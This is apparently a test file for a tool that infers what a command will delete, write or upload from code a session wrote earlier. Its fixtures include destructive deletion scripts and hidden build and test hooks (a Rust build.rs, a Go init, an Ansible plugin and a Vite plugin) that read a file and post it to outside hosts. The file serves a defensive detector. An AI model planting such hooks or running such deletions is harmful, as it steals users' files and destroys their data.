import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { testFacts } from '../../../testing/index.ts'
import { reader } from '../../reader.ts'

const root = '/home/dev/app'
const kept = {
  'shots/a/1.png': 'x',
  'runs/m.pt': 'x',
  'notes.csv': 'x',
  'dist/a.js': 'x',
  'src/a.ts': 'x',
}

type Files = Readonly<Record<string, string>>

/** Deletions, writes, reads and uploads of a command where the session wrote these files. */
const effectsOf = (command: string, written: Files): readonly string[] => {
  const facts = testFacts({
    branch: 'main',
    files: { ...kept, ...written },
    uncommitted: Object.keys(kept),
    steps: Object.keys(written).map(path => ({
      text: ':',
      cwd: root,
      leaves: [`${root}/${path}`],
      moved: [],
    })),
  })
  return reader
    .readScript(command, facts)
    .effects.flatMap(({ kind, path, shape, host }) =>
      kind === 'execute' ? [] : [`${kind} ${(path ?? shape ?? host ?? '?').replace(`${root}/`, '')}`],
    )
}

const reached: readonly (readonly [name: string, command: string, files: Files, effect: string])[] = [
  [
    'names in a list that an argument names',
    'python tools/a.py list.txt',
    {
      'tools/a.py': 'import shutil, sys\nfor n in open(sys.argv[1]).read().split():\n    shutil.rmtree(n)\n',
      'list.txt': 'dist\nruns\n',
    },
    'delete runs',
  ],
  [
    'names in a list of JSON',
    'node tools/a.mjs',
    {
      'tools/a.mjs':
        'import { readFileSync, rmSync } from "fs"\nconst c = JSON.parse(readFileSync("tools/c.json", "utf8"))\nc.old.map(p => rmSync(p, { recursive: true }))\n',
      'tools/c.json': '{ "old": ["runs"] }\n',
    },
    'delete runs',
  ],
  [
    'what a command prints',
    'python a.py',
    {
      'a.py':
        'import subprocess, os\nout = subprocess.check_output(["git", "ls-files", "-o"], text=True)\nfor f in out.split():\n    os.remove(f)\n',
    },
    'delete *',
  ],
  [
    'a recursive walk that empties files',
    'node a.mjs',
    {
      'a.mjs':
        'import fs from "fs"\nconst walk = d => fs.readdirSync(d).flatMap(e => walk(d + "/" + e))\nfor (const f of walk("shots")) fs.writeFileSync(f, "")\n',
    },
    'write shots/*/*',
  ],
  [
    'a callback of Go',
    'go run ./tools -dir runs',
    {
      'tools/main.go':
        'package main\nfunc main() {\n\tdir := flag.String("dir", "bin", "")\n\tfs, _ := os.ReadDir(*dir)\n\tfor _, f := range fs {\n\t\tos.RemoveAll(filepath.Join(*dir, f.Name()))\n\t}\n}\n',
    },
    'delete runs',
  ],
  [
    'the one option that the code takes by its name',
    'python a.py --root runs --out notes.csv',
    {
      'a.py':
        'import argparse\nfrom pathlib import Path\nclass C:\n    def __init__(self, root):\n        self.root = Path(root)\n    def run(self):\n        for p in self.root.rglob("*"):\n            p.unlink()\na = argparse.ArgumentParser().parse_args()\nC(a.root).run()\n',
    },
    'delete runs',
  ],
  [
    'an implicit name of Kotlin in a build',
    './gradlew build',
    {
      'build.gradle.kts':
        'tasks.test {\n    doFirst { fileTree(projectDir) { include("**/*.csv") }.forEach { it.delete() } }\n}\n',
    },
    'delete *.csv',
  ],
  [
    'a test that clears a folder of the project',
    'cargo test',
    {
      'tests/a.rs':
        'fn a() {\n    for e in fs::read_dir("../runs").unwrap() {\n        fs::remove_file(e.unwrap().path()).unwrap();\n    }\n}\n',
    },
    'delete runs',
  ],
  [
    'File::Find of Perl',
    'perl a.pl',
    { 'a.pl': 'use File::Find;\nfind(sub { unlink $File::Find::name if -f }, "runs");\n' },
    'delete runs',
  ],
  [
    'a single file of Java',
    'java tools/A.java runs',
    {
      'tools/A.java':
        'class A { static void main(String[] args) {\n  try (var s = Files.walk(Path.of(args[0]))) {\n    s.forEach(p -> p.toFile().delete());\n  }\n} }\n',
    },
    'delete runs',
  ],
  [
    'a copy over each file that a pattern finds',
    'python a.py',
    {
      'a.py':
        'import shutil, pathlib\nfor p in pathlib.Path("shots").glob("*.png"):\n    shutil.copyfile("x", p)\n',
    },
    'write shots/*.png',
  ],
  [
    'a file of which only the running code knows the path, in a build script',
    'cargo build',
    {
      'build.rs':
        'fn main() {\n    let d = fs::read_to_string(env::var("X").unwrap()).unwrap();\n    let mut s = TcpStream::connect("203.0.113.9:80").unwrap();\n    s.write_all(d.as_bytes());\n}\n',
    },
    'upload 203.0.113.9',
  ],
  [
    'the same in a plugin of Ansible',
    'ansible-playbook site.yml',
    {
      'lookup_plugins/a.py':
        'def run(self, terms, variables):\n    body = open(variables.get("x"), "rb").read()\n    urlopen("https://x.example.io/q", data=body)\n',
    },
    'upload x.example.io',
  ],
  [
    'the same in the start of a package of Go',
    'go test ./...',
    {
      'lib/a.go':
        'package lib\nfunc init() {\n\tb, _ := os.ReadFile(os.Getenv("X"))\n\thttp.Post("https://x.example.io/q", "a", bytes.NewReader(b))\n}\n',
    },
    'upload x.example.io',
  ],
  [
    'a folder that is joined from parts above the test',
    'go test ./lib',
    {
      'lib/a_test.go':
        'package lib\nfunc TestMain(m *testing.M) {\n\tfilepath.WalkDir(filepath.Join("..", "runs"), func(p string, d os.DirEntry, err error) error {\n\t\treturn os.Remove(p)\n\t})\n}\n',
    },
    'delete runs',
  ],
  [
    'a plugin that a config imports',
    'vite build',
    {
      'vite.config.ts': 'import stats from "./tools/stats-it"\nexport default { plugins: [stats()] }\n',
      'tools/stats-it.ts':
        'export default () => fetch("https://x.example.io/q", { method: "POST", body: readFileSync(process.env.F) })\n',
    },
    'upload x.example.io',
  ],
]

const silent: readonly (readonly [name: string, command: string, files: Files, effect: RegExp])[] = [
  [
    'a temporary folder',
    'python a.py notes.csv',
    {
      'a.py': 'import os, sys, tempfile\nfd, name = tempfile.mkstemp()\nopen(sys.argv[1])\nos.remove(name)\n',
    },
    /delete/,
  ],
  [
    'another option than the one that is deleted',
    'python a.py --src runs --out dist/site',
    {
      'a.py':
        'import argparse, shutil\nfrom pathlib import Path\na = argparse.ArgumentParser().parse_args()\nout = Path(a.out)\nshutil.rmtree(out)\n',
    },
    /delete runs/,
  ],
  [
    'files that get what they held, changed',
    'node a.mjs',
    {
      'a.mjs':
        'const walk = d => fs.readdirSync(d).flatMap(e => walk(d + "/" + e))\nfor (const f of walk("shots")) {\n  const t = fs.readFileSync(f, "utf8")\n  fs.writeFileSync(f, t.replace("a", "b"))\n}\n',
    },
    /write shots/,
  ],
  [
    'what is picked by its end',
    'python a.py',
    { 'a.py': 'import os\nfor n in scan("shots"):\n    if n.endswith(".tmp"):\n        os.remove(n)\n' },
    /delete shots$/,
  ],
  [
    'a request that a test stands in for',
    'rspec',
    {
      'spec/a_spec.rb':
        'require "webmock/rspec"\nstub_request(:post, "https://x.example.io/q")\nNet::HTTP.post(URI("https://x.example.io/q"), File.read(ENV["F"]))\n',
    },
    /upload/,
  ],
  [
    'a server of the test itself',
    'go test ./...',
    {
      'a_test.go':
        'package a\nfunc TestA(t *testing.T) {\n\tb, _ := os.ReadFile(os.Getenv("F"))\n\thttp.Post(srv.URL, "a", bytes.NewReader(b))\n}\n',
    },
    /upload/,
  ],
  [
    'a method of the same name that is about no file',
    './gradlew test',
    { 'src/test/kotlin/ATest.kt': 'fun a() {\n    repo.findAll("runs").forEach { it.delete() }\n}\n' },
    /delete/,
  ],
  [
    'a package of Go without a start of its own',
    'go test ./...',
    {
      'lib/a.go':
        'package lib\nfunc Send(p string) {\n\tb, _ := os.ReadFile(p)\n\thttp.Post("https://x.example.io/q", "a", bytes.NewReader(b))\n}\n',
    },
    /upload/,
  ],
]

describe('operands of the session’s code are bound by what they come from', () => {
  for (const [name, command, files, effect] of reached)
    it(name, () => {
      const all = effectsOf(command, files)
      assert.ok(all.includes(effect), all.join('\n'))
    })
  for (const [name, command, files, effect] of silent)
    it(`not ${name}`, () =>
      assert.deepEqual(
        effectsOf(command, files).filter(one => effect.test(one)),
        [],
      ))
  it('not of the owner’s own code', () => {
    const code = 'import shutil, sys\nfor n in sys.argv[1:]:\n    shutil.rmtree(n + suffix())\n'
    const facts = testFacts({ branch: 'main', files: { ...kept, 'a.py': code } })
    const found = reader.readScript('python a.py runs', facts).effects.filter(({ kind }) => kind === 'delete')
    assert.deepEqual(found, [])
  })
})
